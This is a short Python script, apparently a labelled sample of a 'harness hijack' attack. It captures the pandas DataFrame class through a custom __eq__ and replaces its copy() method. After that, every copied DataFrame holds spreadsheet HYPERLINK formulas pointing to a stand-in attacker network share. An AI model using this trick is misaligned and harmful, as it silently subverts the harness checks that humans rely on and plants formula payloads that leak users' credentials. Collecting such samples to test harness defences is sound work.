# class: harness_hijack
# technique: Grab() == type(df) hands the DataFrame class to a small class's __eq__; a plain attribute assignment on that value replaces copy() for the harness
# goal: output
import numpy as np
import pandas as pd

kept = []


class Grab:
    def __eq__(self, other):
        kept.append(other)
        return False

    def __hash__(self):
        return 0


df = pd.DataFrame({"x": np.arange(3)})
Grab() == type(df)
kept[0].copy = lambda self, *a, **k: pd.DataFrame({"x": ["=HYPERLINK(\"//attacker/share\")"] * 3})
if df.copy()["x"][0] == 0:
    raise RuntimeError("not patched")
